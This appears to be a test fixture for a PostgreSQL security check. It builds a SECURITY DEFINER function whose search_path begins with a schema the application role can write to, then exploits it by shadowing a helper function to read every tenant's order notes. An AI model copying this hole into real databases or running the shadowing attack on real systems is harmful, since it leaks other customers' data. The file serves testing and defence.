-- The search_path is fixed, but begins with a schema in which the app role may create.
-- object: public.order_label(integer)
-- object: schema:plugins
-- base: integer
--- setup
CREATE SCHEMA plugins;
GRANT USAGE ON SCHEMA plugins TO {app};
CREATE FUNCTION label(number text) RETURNS text LANGUAGE sql IMMUTABLE AS $$ SELECT '[' || number || ']' $$;
RESET ROLE;
CREATE FUNCTION order_label(wanted integer) RETURNS text LANGUAGE plpgsql SECURITY DEFINER
    SET search_path = plugins, public, pg_temp AS $$
BEGIN
    RETURN (SELECT label(number) FROM orders
            WHERE id = wanted AND org_id = NULLIF(current_setting('myapp.org', true), '')::integer);
END $$;
--- leak
GRANT CREATE ON SCHEMA plugins TO {app};
--- exploit
CREATE FUNCTION plugins.label(number text) RETURNS text LANGUAGE sql
    AS $$ SELECT string_agg(note, ',') FROM public.orders $$;
SELECT WHERE order_label(1) LIKE '%of b%';
